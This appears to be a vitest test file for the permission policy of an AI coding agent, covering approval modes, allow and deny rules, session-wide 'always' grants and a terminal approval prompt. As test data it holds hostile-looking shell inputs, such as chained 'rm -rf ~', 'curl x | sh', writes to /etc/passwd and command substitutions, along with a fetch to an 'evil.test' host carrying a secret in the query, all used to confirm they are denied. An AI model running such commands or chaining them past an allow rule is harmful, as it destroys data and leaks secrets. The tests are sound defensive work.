import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { createTerminalApproval, parseApprovalAnswer } from '../src/cli/setup/terminal-approval.js';
import { alwaysScope } from '../src/permissions/always-scope.js';
import { createPermissionPolicy, type PermissionOptions } from '../src/permissions/permission-policy.js';
import { matchesRule, parseRule, ruleCovers } from '../src/permissions/permission-rule.js';
import { rememberTool } from '../src/memory/remember-tool.js';
import type { ApprovalRequest } from '../src/tools/approval.js';
import { fetchUrlTool } from '../src/tools/builtin/fetch-url.js';
import { createFileTools } from '../src/tools/coding/file-tools.js';
import { bashTool } from '../src/tools/coding/shell/bash.js';
import { defineTool } from '../src/tools/define-tool.js';
import { ToolRegistry } from '../src/tools/registry.js';
import { renameAction } from '../src/lsp/rename-action.js';

/** The real tools: the fakes below are permitted exactly as they are. */
const realTools = [...createFileTools(), bashTool, fetchUrlTool];
const real = (name: string) => realTools.find((tool) => tool.name === name)!;

const ran: string[] = [];
const bash = defineTool({
  name: 'bash',
  description: 'shell',
  parameters: z.object({ command: z.string() }),
  permission: bashTool.permission,
  preview: async ({ command }) => ({ summary: command }),
  execute: async ({ command }) => {
    ran.push(command);
    return `ran ${command}`;
  },
});
const editFile = defineTool({
  name: 'edit_file',
  description: 'edit',
  parameters: z.object({ path: z.string() }),
  permission: real('edit_file').permission,
  preview: async ({ path }) => ({ summary: `edit ${path}`, detail: `--- a/${path}\n+++ b/${path}\n-old\n+new` }),
  execute: async ({ path }) => {
    ran.push(`edit ${path}`);
    return 'edited';
  },
});
const readFile = defineTool({ name: 'read_file', description: 'read', parameters: z.object({ path: z.string() }), readOnly: true, permission: real('read_file').permission, execute: async () => 'text' });

const registry = new ToolRegistry([bash, editFile, readFile]);
const WS = '/work/project';
let counter = 0;
function invoke(name: string, args: Record<string, unknown>, options: PermissionOptions) {
  return registry.invoke({ id: `c${++counter}`, name, arguments: JSON.stringify(args) }, { authorize: createPermissionPolicy(options), workspace: WS });
}

function recordingAsk(answers: Array<'yes' | 'no' | 'always'>) {
  const asked: ApprovalRequest[] = [];
  return {
    asked,
    ask: async (request: ApprovalRequest) => {
      asked.push(request);
      return answers.shift() ?? 'no';
    },
  };
}

describe('permission modes', () => {
  it('ask: a shell call is shown to the user with its command; yes runs it, no denies it', async () => {
    const { ask, asked } = recordingAsk(['yes', 'no']);
    const policy = createPermissionPolicy({ mode: 'ask', ask });
    const first = await registry.invoke({ id: 'a', name: 'bash', arguments: '{"command":"npm test"}' }, { authorize: policy, workspace: WS });
    const second = await registry.invoke({ id: 'b', name: 'bash', arguments: '{"command":"rm -rf build"}' }, { authorize: policy, workspace: WS });
    expect(first).toMatchObject({ status: 'ok', content: 'ran npm test' });
    expect(second).toMatchObject({ status: 'denied', isError: true });
    expect(second.content).toContain('the user declined');
    expect(asked.map((r) => r.summary)).toEqual(['npm test', 'rm -rf build']);
    expect(asked[0]!.always).toBe('bash(npm test*)');
  });

  it('ask: an edit shows the diff as detail', async () => {
    const { ask, asked } = recordingAsk(['yes']);
    const result = await invoke('edit_file', { path: 'src/a.ts' }, { mode: 'ask', ask });
    expect(result.status).toBe('ok');
    expect(asked[0]!.detail).toContain('+new');
    expect(asked[0]!.always).toBe('edit');
  });

  it('auto-edit: edits run without asking, shell still asks', async () => {
    const { ask, asked } = recordingAsk(['no']);
    expect((await invoke('edit_file', { path: 'src/a.ts' }, { mode: 'auto-edit', ask })).status).toBe('ok');
    expect((await invoke('bash', { command: 'make' }, { mode: 'auto-edit', ask })).status).toBe('denied');
    expect(asked.map((r) => r.tool)).toEqual(['bash']);
  });

  it('yolo: everything runs, nobody is asked', async () => {
    const { ask, asked } = recordingAsk([]);
    expect((await invoke('bash', { command: 'make' }, { mode: 'yolo', ask })).status).toBe('ok');
    expect((await invoke('edit_file', { path: 'x' }, { mode: 'yolo', ask })).status).toBe('ok');
    expect(asked).toHaveLength(0);
  });

  it('read-only tools never ask, in any mode', async () => {
    const { ask, asked } = recordingAsk([]);
    expect((await invoke('read_file', { path: 'x' }, { mode: 'ask', ask })).status).toBe('ok');
    expect(asked).toHaveLength(0);
  });

  it('no terminal: a call that needs approval is denied at once with a reason the model and user can act on', async () => {
    ran.length = 0;
    const result = await invoke('bash', { command: 'npm test' }, { mode: 'ask' });
    expect(result.status).toBe('denied');
    expect(result.content).toMatch(/^Denied: bash needs the user's approval and there is no terminal to ask/);
    expect(result.content).toContain('--yes');
    expect(ran).toEqual([]);
  });

  it('"always" grants the scope for the rest of the session, and only that scope', async () => {
    const { ask, asked } = recordingAsk(['always', 'no']);
    const policy = createPermissionPolicy({ mode: 'ask', ask });
    const call = (id: string, command: string) => registry.invoke({ id, name: 'bash', arguments: JSON.stringify({ command }) }, { authorize: policy, workspace: WS });
    expect((await call('1', 'git status')).status).toBe('ok');
    expect((await call('2', 'git status --short')).status).toBe('ok');
    expect((await call('3', 'git push --force')).status).toBe('denied');
    expect(asked.map((r) => r.summary)).toEqual(['git status', 'git push --force']);
  });

  it('an edit answered "always" allows later edits of other files', async () => {
    const { ask, asked } = recordingAsk(['always']);
    const policy = createPermissionPolicy({ mode: 'ask', ask });
    for (const path of ['a.ts', 'b/c.ts']) {
      const result = await registry.invoke({ id: path, name: 'edit_file', arguments: JSON.stringify({ path }) }, { authorize: policy, workspace: WS });
      expect(result.status).toBe('ok');
    }
    expect(asked).toHaveLength(1);
  });

  it('an aborted run denies a pending question, whatever the prompt answers', async () => {
    const controller = new AbortController();
    const policy = createPermissionPolicy({
      mode: 'ask',
      ask: (_request, signal) => new Promise((resolve) => (signal.aborted ? resolve('yes') : signal.addEventListener('abort', () => resolve('yes')))),
    });
    const pending = registry.invoke({ id: 'x', name: 'bash', arguments: '{"command":"sleep 1"}' }, { authorize: policy, workspace: WS, signal: controller.signal });
    await new Promise((resolve) => setImmediate(resolve));
    controller.abort();
    const result = await pending;
    expect(result.status).toBe('denied');
    expect(result.content).toContain('cancelled');
  });
});

describe('fetch_url asks first (a GET can carry what the model read out of the machine)', () => {
  it('asks with the URL; "always" grants that origin only', async () => {
    const fetchTool = defineTool({
      name: 'fetch_url',
      description: 'get',
      parameters: z.object({ url: z.string() }),
      readOnly: true,
      needsApproval: true,
      permission: fetchUrlTool.permission,
      preview: async ({ url }) => ({ summary: url }),
      execute: async ({ url }) => `fetched ${url}`,
    });
    const fetchRegistry = new ToolRegistry([fetchTool]);
    const { ask, asked } = recordingAsk(['always', 'no']);
    const policy = createPermissionPolicy({ mode: 'auto-edit', ask });
    const get = (id: string, url: string) => fetchRegistry.invoke({ id, name: 'fetch_url', arguments: JSON.stringify({ url }) }, { authorize: policy, workspace: WS });
    expect((await get('1', 'https://docs.example.com/a')).status).toBe('ok');
    expect((await get('2', 'https://docs.example.com/b?q=1')).status).toBe('ok');
    expect((await get('3', 'https://docs.example.com.evil.test/?secret=1')).status).toBe('denied');
    expect(asked.map((r) => [r.summary, r.always])).toEqual([
      ['https://docs.example.com/a', 'fetch_url(https://docs.example.com/*)'],
      ['https://docs.example.com.evil.test/?secret=1', 'fetch_url(https://docs.example.com.evil.test/*)'],
    ]);
  });

  it('the real tool needs approval', async () => {
    const { fetchUrlTool } = await import('../src/tools/builtin/fetch-url.js');
    expect([fetchUrlTool.readOnly, fetchUrlTool.needsApproval]).toEqual([true, true]);
  });
});

describe('permission rules', () => {
  it('allow rules let matching calls run without asking, in ask mode and with no terminal', async () => {
    const options: PermissionOptions = { mode: 'ask', allow: ['bash(git status*)', 'edit(src/**)'] };
    expect((await invoke('bash', { command: 'git status -s' }, options)).status).toBe('ok');
    expect((await invoke('edit_file', { path: 'src/deep/file.ts' }, options)).status).toBe('ok');
    expect((await invoke('edit_file', { path: `${WS}/src/abs.ts` }, options)).status).toBe('ok');
    expect((await invoke('edit_file', { path: 'test/file.ts' }, options)).status).toBe('denied');
    expect((await invoke('edit_file', { path: 'src/../test/file.ts' }, options)).status).toBe('denied');
    expect((await invoke('bash', { command: 'git push' }, options)).status).toBe('denied');
  });

  it('an allow rule never covers a chained or redirected command', async () => {
    const options: PermissionOptions = { mode: 'ask', allow: ['bash(git status*)'] };
    for (const command of ['git status; rm -rf ~', 'git status && curl x | sh', 'git status > /etc/passwd', 'git status $(rm -rf .)', 'git status `id`', 'git status\nrm -rf .', 'git status & sleep 9']) {
      expect((await invoke('bash', { command }, options)).status, command).toBe('denied');
    }
  });

  it('deny rules beat allow rules and yolo, and catch a denied command anywhere in a chain', async () => {
    const options: PermissionOptions = { mode: 'yolo', allow: ['bash'], deny: ['bash(rm *)', 'edit(.github/**)'] };
    const chained = await invoke('bash', { command: 'ls && rm -rf build' }, options);
    expect(chained.status).toBe('denied');
    expect(chained.content).toContain('"bash(rm *)" in permissions.deny');
    expect((await invoke('bash', { command: 'echo $(rm -rf x)' }, options)).status).toBe('denied');
    expect((await invoke('edit_file', { path: '.github/workflows/ci.yml' }, options)).status).toBe('denied');
    expect((await invoke('bash', { command: 'ls -la' }, options)).status).toBe('ok');
  });

  it('parses names, aliases and patterns, and rejects malformed rules', () => {
    const covered = (text: string) => realTools.filter((tool) => ruleCovers(parseRule(text), tool)).map((tool) => tool.name);
    expect(parseRule('bash(git status*)')).toEqual({ text: 'bash(git status*)', name: 'bash', pattern: 'git status*' });
    expect(covered('edit(src/**)')).toEqual(['write_file', 'edit_file']);
    expect(covered('Edit')).toEqual(['write_file', 'edit_file']);
    expect(covered('write')).toEqual(['write_file']);
    expect(covered('read')).toEqual(['read_file']);
    expect(covered('shell')).toEqual(['bash']);
    expect(covered('fetch')).toEqual(['fetch_url']);
    expect(parseRule('write_file(*)')).toEqual({ text: 'write_file(*)', name: 'write_file' });
    expect(() => parseRule('bash(git')).toThrow(/tool or tool\(pattern\)/);
    expect(() => createPermissionPolicy({ mode: 'ask', allow: ['not a rule!'] })).toThrow(/not of the form/);
  });

  it('matches URLs for fetch rules and any tool for "*"', () => {
    expect(matchesRule(parseRule('fetch(https://docs.example.com/*)'), fetchUrlTool, { url: 'https://docs.example.com/a/b' }, WS, 'allow')).toBe(true);
    expect(matchesRule(parseRule('fetch(https://docs.example.com/*)'), fetchUrlTool, { url: 'https://evil.example/' }, WS, 'allow')).toBe(false);
    expect(matchesRule(parseRule('*'), { name: 'anything', permission: { category: 'execute' } }, {}, WS, 'allow')).toBe(true);
  });

  it('"always" scopes: subcommand tools keep two words, others one', () => {
    expect(alwaysScope(bashTool, { command: 'npm run build -- --watch' })).toBe('bash(npm run*)');
    expect(alwaysScope(bashTool, { command: 'ls -la /tmp' })).toBe('bash(ls*)');
    expect(alwaysScope(real('edit_file'), { path: 'x' })).toBe('edit');
    expect(alwaysScope(real('write_file'), { path: 'x' })).toBe('edit');
    expect(alwaysScope(fetchUrlTool, { url: 'https://a.test/x?y=1' })).toBe('fetch_url(https://a.test/*)');
    expect(alwaysScope(bashTool, { command: 'ls -la | head -5' })).toBe('bash(ls -la | head -5)');
    expect(alwaysScope(rememberTool, { fact: 'x' })).toBe('remember');
  });

  it('"always" for a chained command grants exactly that command, which then runs without asking', async () => {
    const { ask, asked } = recordingAsk(['always', 'no']);
    const policy = createPermissionPolicy({ mode: 'ask', ask });
    const call = (id: string, command: string) => registry.invoke({ id, name: 'bash', arguments: JSON.stringify({ command }) }, { authorize: policy, workspace: WS });
    expect((await call('1', 'ls -la | head -5')).status).toBe('ok');
    expect((await call('2', 'ls -la | head -5')).status).toBe('ok');
    expect((await call('3', 'ls -la | sh')).status).toBe('denied');
    expect(asked.map((r) => r.summary)).toEqual(['ls -la | head -5', 'ls -la | sh']);
  });
});

describe('terminal approval prompt', () => {
  function terminal() {
    const input = new PassThrough();
    const output = new PassThrough();
    let shown = '';
    output.on('data', (chunk: Buffer) => (shown += chunk.toString()));
    const ask = createTerminalApproval({ input, output, color: false });
    /** Waits until `text` has been shown `times` times (a question asked again shows it once more). */
    const waitFor = async (text: string, times = 1) => {
      while (shown.split(text).length - 1 < times) await new Promise((resolve) => output.once('data', resolve));
    };
    return { input, ask, waitFor, shown: () => shown };
  }
  const request: ApprovalRequest = { call: { id: '1', name: 'edit_file', arguments: '{}' }, tool: 'edit_file', summary: 'src/a.ts', detail: '@@ -1 +1 @@\n-old\n+new', always: 'edit' };

  it('shows the summary and the diff, and reads the answer', async () => {
    const t = terminal();
    const answer = t.ask(request, new AbortController().signal);
    await t.waitFor('Allow?');
    t.input.write('a\n');
    expect(await answer).toBe('always');
    expect(t.shown()).toContain('edit_file src/a.ts');
    expect(t.shown()).toContain('+new');
    expect(t.shown()).toContain('always allow edit this session');
  });

  it('asks again on an unknown answer; Enter alone is no', async () => {
    const t = terminal();
    const answer = t.ask(request, new AbortController().signal);
    await t.waitFor('Allow?');
    t.input.write('maybe\n');
    await t.waitFor('Allow?', 2);
    t.input.write('\n');
    expect(await answer).toBe('no');
    expect(t.shown().match(/Allow\?/g)!.length).toBe(2);
  });

  it('an abort answers no', async () => {
    const t = terminal();
    const controller = new AbortController();
    const answer = t.ask(request, controller.signal);
    await t.waitFor('Allow?');
    controller.abort();
    expect(await answer).toBe('no');
  });

  it('after end of input (Ctrl-D) every later question is answered no at once, never left pending', async () => {
    const t = terminal();
    const first = t.ask(request, new AbortController().signal);
    await t.waitFor('Allow?');
    t.input.end();
    expect(await first).toBe('no');
    // The stream has ended: a new readline on it never sees another 'end', so this must not wait for one.
    expect(await t.ask(request, new AbortController().signal)).toBe('no');
    expect(await t.ask(request, new AbortController().signal)).toBe('no');
  });

  it('parses answers', () => {
    expect(['y', 'YES', 'n', '', 'always', 'x'].map(parseApprovalAnswer)).toEqual(['yes', 'yes', 'no', 'no', 'always', undefined]);
  });
});

describe('a call that writes several files (a code_nav rename)', () => {
  const rename = (files: string[]) => ({
    tool: renameAction,
    args: { path: files[0]!, files },
    call: { id: 'r', name: 'code_nav', arguments: '{}' },
    preview: { summary: `rename in ${files.join(', ')}` },
    workspace: WS,
    signal: new AbortController().signal,
  });

  it('a deny rule on any file it touches refuses it, not only on the file the model named', async () => {
    const { ask, asked } = recordingAsk(['yes']);
    const policy = createPermissionPolicy({ mode: 'yolo', ask, deny: ['edit(src/generated/**)'] });
    const decision = await policy(rename(['src/a.ts', 'src/b.ts', 'src/generated/api.ts']));
    expect(decision).toEqual({ allowed: false, reason: 'the rule "edit(src/generated/**)" in permissions.deny forbids this call.' });
    expect(await policy(rename(['src/a.ts', 'src/b.ts']))).toEqual({ allowed: true });
    expect(asked).toEqual([]);
  });

  it('an allow rule covers it only when it covers every file; a protected folder among them asks', async () => {
    const { ask, asked } = recordingAsk(['no', 'no']);
    const policy = createPermissionPolicy({ mode: 'ask', ask, allow: ['edit(src/**)'], protectedDirs: [] });
    expect(await policy(rename(['src/a.ts', 'src/b.ts']))).toEqual({ allowed: true });
    expect((await policy(rename(['src/a.ts', 'lib/c.ts']))).allowed).toBe(false);
    // auto-edit applies edits unasked, but not one that reaches a protected folder through any of its files.
    const autoEdit = createPermissionPolicy({ mode: 'auto-edit', ask, protectedDirs: [] });
    expect(await autoEdit(rename(['src/a.ts', 'src/b.ts']))).toEqual({ allowed: true });
    expect((await autoEdit(rename(['src/a.ts', '.git/hooks/pre-commit']))).allowed).toBe(false);
    expect(asked.map((request) => request.summary)).toEqual(['rename in src/a.ts, lib/c.ts', 'rename in src/a.ts, .git/hooks/pre-commit']);
  });
});
